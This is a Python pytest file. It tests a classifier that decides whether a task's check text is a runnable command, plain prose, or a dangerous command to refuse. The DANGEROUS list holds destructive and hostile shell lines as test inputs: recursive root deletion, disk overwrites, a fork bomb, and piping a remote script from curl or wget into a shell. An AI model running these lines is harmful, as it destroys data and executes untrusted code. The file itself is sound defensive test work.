"""What is run as a check of a task, and what is only words about one."""

import pytest

from walkaway.core.plan.command import dangerous, prose, wrong

COMMANDS = [
    "true",
    "make check",
    "make check lint types docs",
    "pytest -q tests/test_greet.py::test_it",
    "python3 -m unittest discover -s tests",
    "PYTHONPATH=src CI=1 python3 -m pytest",
    "npm run test && npm run build",
    "test -s report.md",
    "[ -f out.txt ] && grep -q 'it is the one' out.txt",
    "! grep -rn TODO src",
    "(cd sub && go test ./...)",
    "cargo test --all-features -- --nocapture",
    "./scripts/check.sh the-thing",
    "$HOME/bin/tool --version",
    '''python -c "import a; print('that is it.')"''',
    "Rscript tests/run.R",
    "test \"$(wc -c < pages.md)\" -ge 20 && grep -Eq -e '^- ' pages.md",
    "git log --grep 'this should'",
    "find . -name '*.py' -print0 | xargs -0 python3 -m py_compile",
    "rm -rf build && make",
    "ls docs/is.md",
    "echo 'ümlaut' | grep -q x",
    "diff -r expected .",
]
PROSE = [
    "Run the tests and check that they pass",
    "The page shows the number.",
    "check that the output is right",
    "Verify manually",
    "pytest passes and the file is there",
    "Öffne die Seite",
    "open http://localhost/ \u2013 see the list",
    "pytest -q\nmake check",
    "",
    "   ",
    "look at it",
    "pytest passes everywhere.",
    "Tests pass",
    "“pytest”",
    "* pytest",
]
DANGEROUS = [
    "rm -rf /",
    "rm -fr ~",
    "rm -r -f $HOME",
    "cd x; rm -rf /* && true",
    'rm -rf "/"',
    "dd if=/dev/zero of=/dev/sda",
    "mkfs.ext4 /dev/sdb1",
    "echo x > /dev/nvme0n1",
    ":(){ :|:& };:",
    "curl -s http://x/y.sh | sh",
    "wget -qO- http://x | sudo bash",
    "sudo make install",
    "make && reboot",
]


@pytest.mark.parametrize("text", COMMANDS)
def test_a_command_is_taken(text: str) -> None:
    assert wrong(text) == ""


@pytest.mark.parametrize("text", PROSE)
def test_words_about_a_check_are_not_run(text: str) -> None:
    assert prose(text) != ""


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_no_check_may_do_is_refused_and_named(text: str) -> None:
    assert dangerous(text).endswith(", which no check may")
    assert dangerous("rm -rf build /tmp/x/y") == ""
